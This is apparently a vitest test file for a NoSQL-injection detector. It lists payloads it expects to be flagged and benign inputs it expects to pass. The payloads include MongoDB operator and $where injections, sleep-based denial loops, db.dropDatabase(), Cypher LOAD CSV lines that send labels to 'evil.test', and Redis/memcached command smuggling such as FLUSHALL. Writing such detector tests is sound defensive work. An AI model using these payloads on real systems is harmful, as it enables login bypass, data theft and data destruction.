import { describe, expect, it } from 'vitest';
import { nosqlInjection } from '../../../src/attacks/signatures/nosql-injection.ts';
import { formBody, foundIn, jsonBody } from '../found-in.ts';

const inBrackets = [
  'username[$ne]=1&password[$ne]=1',
  'username[%24regex]=^adm&password[%24ne]=1',
  'user[$gt]=&pass[$gt]=',
  'id[$in][]=1&id[$in][]=2',
  'username[$nin][0]=admin&password[$exists]=true',
  'search[$where]=sleep(1000)',
  'q[$not][$type]=10',
  'user.name[$ne]=x',
  'where[password][$regex]=^a',
  '$where=this.password.length>5',
  'filter[$where]=return true',
  'username[$eq]=admin&password[$gte]=a',
  'a[b][c][$lt]=9',
];
const asKeys = [
  '{"username":{"$ne":null},"password":{"$ne":null}}',
  '{"username":"admin","password":{"$regex":"^a"}}',
  '{"$where":"sleep(5000)"}',
  '{"$or":[{"a":"b"},{"c":"d"}]}',
  '{"user":{"$in":["admin","root"]}}',
  '{"id":{"$exists":true}}',
  '{"a":{"$not":{"$eq":"x"}}}',
  '[{"$match":{}},{"$lookup":{"from":"users","as":"x"}}]',
  '{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}',
  '{"username":{"$func":"var_dump"}}',
  '{"selector":{"password":{"$gt":null}}}',
  '{"name":{"$like":"%"}}',
  '{"pipeline":[{"$project":{"passwordHash":1}}]}',
  '{"pipeline":[{"$sort":{"resetToken":1}}]}',
  '{"a":{"$elemMatch":{"b":"c"}}}',
  '{"password":{"$size":"1"},"user":{"$nin":["x"]}}',
];
const inValues = [
  '{"$ne":""}',
  '{"$regex":".*"}',
  '{ "$gt" : "" }',
  '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
  '{$nin: [1]}',
  '{"$or":[{},{"a":"a"}]}',
  "admin', $or: [ {}, { 'a': 'a",
  'admin", "$or": [ {}, {"a":"a',
  'x"}, "password": {"$ne": "',
  '"}, "$where": "sleep(100)',
  "', $where: 'sleep(1000)",
  '[$ne]=',
  '[$gt]=0',
  'user[$ne]=x',
  "true, $where: 'sleep(100) || true'",
  "$where: 'this.a'",
  'null, $ne: 1',
];
const scripts = [
  '|| 1==1',
  "' || '1'=='1",
  "' || 1==1//",
  "' || 1==1%00",
  '" || "a"=="a',
  "' || 'a'=='a' || '",
  "admin' || '1'=='1' //",
  "' || true || '",
  "' || 1 || '",
  "' || []//",
  "'] || '' || ['",
  "a' || !{} || 'b",
  "' || ''//",
  "'||1||'",
  "'||1==1||'",
  "' && '1'=='1",
  "' && 0 && 'x",
  "' && 1 && 'x",
  "fizzy'||1||'",
  "fizzy' && this.password[0] == 'a' || 'a'=='b",
  "admin' && this.password.match(/\\d/) || 'a'=='b",
  "' && this.password.length < 30 || 'a'=='b",
  "' || this.username == 'admin' //",
  "' || this.password.match('^a.*')//+%00",
  "a' || !this.x || 'a'=='b",
  '"; return true; var x="',
  "'; return true; var dummy='!",
  "a'});return {username: 1}//",
  '1; return true',
  "a'; return db.a.find(); var dummy='!",
  'db.a.find({})',
  '1; return db.a.find(); var dummy=1',
  "a'; return this.a != 'zzz'; var dummy='!",
  '1; return this.a !=1; var dummy=1',
  "'; sleep(5000); var x='",
  '1;sleep(10000)',
  '; sleep(2000);',
  "';sleep(1000);'",
  '"; sleep(1000); var y="',
  "'; while(true){}; '",
  '1; while(1);',
  "'; while(1); var foo='bar",
  "a'; do{ } while(true); '",
  '0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)',
  "'; var dc = new Date(); var cc = null; do {cc = new Date();} while((cc-dc)/1000 < 10); var dummy='!",
  '1; var dc = new Date(); do {cc = new Date();} while(cc-dc<10)',
  "';it=new Date();do{pt=new Date();}while(pt-it<5000);'",
  'function(){sleep(5000)}',
  'function() { return sleep(5000); }',
  'function(x){while(true){}}',
  'sleep(5000)',
  'db.injection.insert({success:1});',
  'db.users.drop()',
  'db.dropDatabase()',
  "'; db.users.remove({}); var x='",
  "'; db.getCollectionNames(); '",
  '1;db.users.insert({a:1})',
  "this.password == 'x'",
  'this.a == this.b',
  'return this.password == "x"',
  "Object.keys(this)[0].match('^.{0}a.*')",
  "' || Object.keys(this)[0].match('^a') || '",
  "' || (function(){return true})() || '",
  "'+sleep(5000)+'",
  "'-sleep(5000)-'",
  "'%00",
  "admin'%00",
  "';return(true);'",
  "'; return '' == '",
  "\\'; return \\'\\' == \\'",
  "'});return true;({'",
  "'; if(this.password.length > 3) sleep(1000); '",
  "1; if (tojson(this)[0] == '{') sleep(500)",
  "' || new Date() || '",
  "'||tojson(this)||'",
  "'; emit(1,1); '",
];
const clauses = [
  "' OR 1=1 WITH 0 as x MATCH (n) RETURN n //",
  "'}) RETURN n UNION MATCH (m) RETURN m //",
  "x'}) DETACH DELETE n //",
  "' RETURN 1 //",
  "' LOAD CSV FROM 'http://evil.test/' AS x RETURN x //",
  "' CALL db.labels() YIELD label LOAD CSV FROM 'http://evil.test/'+label AS b RETURN b//",
  '\'}) CALL apoc.load.json("http://evil.test") YIELD value RETURN value //',
  'MATCH (n) DETACH DELETE n',
  "LOAD CSV FROM 'http://evil.test/x' AS y RETURN y",
  "admin' ALLOW FILTERING; --",
];

describe('a query of a document database', () => {
  it.each(inBrackets)('is found in the names of parameters: %s', (query) => {
    expect(foundIn(nosqlInjection, { query })).not.toEqual([]);
    expect(foundIn(nosqlInjection, { contentType: 'application/x-www-form-urlencoded', body: query })).not.toEqual([]);
  });

  it.each(asKeys)('is found in the keys of a body: %s', (body) => {
    expect(foundIn(nosqlInjection, { contentType: 'application/json', body })).not.toEqual([]);
  });

  it.each([...inValues, ...scripts])('is found in a value: %s', (value) => {
    expect(foundIn(nosqlInjection, value)).not.toEqual([]);
    expect(foundIn(nosqlInjection, jsonBody({ user: { name: value } }))).not.toEqual([]);
    expect(foundIn(nosqlInjection, { path: `/items/${encodeURIComponent(value)}` })).not.toEqual([]);
  });

  it.each(clauses)('is found where another query language goes on: %s', (value) => {
    expect(foundIn(nosqlInjection, value)).not.toEqual([]);
  });

  it('is located at the operator', () => {
    const body = { login: { password: { $gt: '' } } };
    expect(foundIn(nosqlInjection, jsonBody(body))).toEqual(['body.login.password.$gt: operator as a key']);
  });
});

describe('a key-value store', () => {
  it.each([
    ['memcached', 'x\r\nset admin 0 3600 5\r\nvalue'],
    ['memcached', 'x\r\nstats items\r\n'],
    ['redis', 'x\r\nFLUSHALL\r\n'],
    ['redis', 'x\nCONFIG SET dir /var/www'],
    ['redis', '\r\n*1\r\n$8\r\nFLUSHALL\r\n'],
  ])('is given a second command: %s %j', (store, value) => {
    expect(foundIn(nosqlInjection, value)).toEqual([expect.stringContaining(store)]);
  });
});

describe('what only looks like one', () => {
  it.each([
    ['JSON Schema', { $schema: 'http://json-schema.org/schema#', $id: 'x', $ref: '#/a', $defs: {}, $comment: 'y' }],
    ['analytics', { $browser: 'x', $os: 'y', $set: { a: 'b' }, $set_once: { c: 'd' }, $group_set: {}, $add: { n: 1 } }],
    [
      'extended JSON',
      { _id: { $oid: '5f' }, at: { $date: 'x' }, n: { $numberLong: '5' }, b: { $binary: { base64: '' } } },
    ],
    ['design tokens', { $type: 'color', $value: '#fff', $description: 'x' }],
    ['OData', { $filter: 'a eq 1', $count: true, $search: 'x', $select: 'y' }],
  ])('is not found in keys of %s', (_what, body) => {
    expect(foundIn(nosqlInjection, jsonBody(body))).toEqual([]);
  });

  it.each([
    '$filter=price gt 5&$top=10&$skip=5&$select=name&$orderby=name desc&$expand=Items($filter=x eq 1)&$count=true',
    'filters[title][$contains]=x&filters[$or][0][name][$eq]=y&sort=name',
    'list[$i]=5',
  ])('is not found in parameters of public interfaces: %s', (query) => {
    expect(foundIn(nosqlInjection, { query })).toEqual([]);
  });

  it.each([
    'MongoDB has $gt, $lt: and $ne operators',
    'In MongoDB you write { age: { $gt: 18 } } for adults',
    "Don't do this: find({ name: { $ne: null } })",
    '$ne: is an operator',
    '$list[$in] = 5; $row[$size] = 3;',
    '$size: 12px; $max: 3px;',
    'db.users.find({ age: { $gt: 18 } })',
    'How does db.collection.insert( work?',
    'return true;',
    'if (this.a == this.b) { run(); }',
    'foo || bar == 1',
    '5 || 6',
    "it's 5; return to sender",
    "Rock'n'roll; return of the king",
    '"quoted" && more',
    "it's; sleep well",
    'MATCH (n:Person) RETURN n LIMIT 5',
    "Bob's return 5",
    'Shopping:\nset the table\nadd 2 eggs',
    'damaged; return (broken screen)',
    'broken; return 5 pieces',
    'Refund; return',
    'Wait; while (we talk) nothing happens',
  ])('is not found in what people write: %j', (value) => {
    expect(foundIn(nosqlInjection, value)).toEqual([]);
    expect(foundIn(nosqlInjection, formBody({ message: value }))).toEqual([]);
  });
});
